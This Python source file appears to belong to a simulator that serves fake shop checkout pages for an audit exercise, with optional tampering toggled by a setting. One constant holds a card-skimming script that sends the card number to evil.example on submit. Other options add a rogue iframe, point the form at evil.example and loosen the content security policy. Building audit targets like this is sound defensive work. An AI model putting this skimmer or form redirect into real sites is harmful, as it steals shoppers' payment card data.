# SPDX-License-Identifier: GPL-3.0-or-later
"""The pages of a shop for each zone, beside the API: what a visitor receives, with changes that an audit has to find."""

from __future__ import annotations

import re
import typing as t

from edgeops_simulator.faults.answers import Reply
from edgeops_simulator.front.world import World

PREFIX = "/__site__/"
# What the setting `site_changes` can name, for all zones or as ZONE:NAME.
HEADER, SKIMMER, FRAME, FORM = CHANGES = ("header", "skimmer", "frame", "form")
_PATH = re.compile(re.escape(PREFIX) + r"([0-9a-f]{1,32})/(checkout|cart)?", re.IGNORECASE)

_POLICY = "default-src 'self'; script-src 'self' https://js.pay.example; frame-src https://js.pay.example; form-action 'self'"
_HEADERS = (
    ("content-type", "text/html; charset=utf-8"),
    ("strict-transport-security", "max-age=31536000; includeSubDomains"),
    ("x-content-type-options", "nosniff"),
    ("referrer-policy", "strict-origin"),
)
_SKIMMER = (
    "\n    <script>document.forms[0].onsubmit = () => {"
    " new Image().src = 'https://evil.example/?' + document.forms[0].card.value }</script>"
)
_PAGE = """<!doctype html>
<html lang="en">
  <head>
    <title>{title}</title>
    <script src="https://js.pay.example/v3/pay.js" integrity="sha384-{integrity}" crossorigin="anonymous"></script>
    <script>window.shop = {{cart: {cart}}};</script>
  </head>
  <body>
    <h1>{title}</h1>
    <iframe src="https://js.pay.example/fields" title="card"></iframe>{frame}
    <form method="post" action="{action}">
      <input name="card" autocomplete="cc-number"><button>Pay</button>
    </form>{skimmer}
  </body>
</html>
"""


class Site:
    """Answers GET below `/__site__/ZONE/`; asks for no credentials, and is not in the journal of the API."""

    def __init__(self, world: World) -> None:
        self._world = world
        self._visits = 0

    def serves(self, path: str) -> bool:
        return path.startswith(PREFIX)

    async def __call__(self, scope: t.Any, send: t.Any) -> None:
        reply = self._reply(scope["method"], scope["path"])
        headers = [(name.encode(), value.encode()) for name, value in reply.headers]
        await send({"type": "http.response.start", "status": reply.status, "headers": headers})
        await send({"type": "http.response.body", "body": reply.body})

    def _reply(self, method: str, path: str) -> Reply:
        match = _PATH.fullmatch(path)
        zone = match[1].lower() if match else ""
        if match is None or zone not in self._world.service.zones:
            return Reply(404, [("content-type", "text/plain")], b"not found\n")
        if method != "GET":
            return Reply(405, [("allow", "GET")], b"")
        self._visits += 1
        changes = {name for name in CHANGES if {name, f"{zone}:{name}"} & set(self._world.service.settings.site_changes)}
        policy = _POLICY.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'") if HEADER in changes else _POLICY
        page = _PAGE.format(
            title=(match[2] or "shop").capitalize(),
            integrity="A" * 64,
            # Another number for each visitor: code of which only the shape stays.
            cart=self._visits,
            frame='\n    <iframe src="https://evil.example/fields" title="card"></iframe>' if FRAME in changes else "",
            action="https://evil.example/pay" if FORM in changes else f"{PREFIX}{zone}/pay",
            skimmer=_SKIMMER if SKIMMER in changes else "",
        )
        return Reply(200, [*_HEADERS, ("content-security-policy", policy)], page.encode())
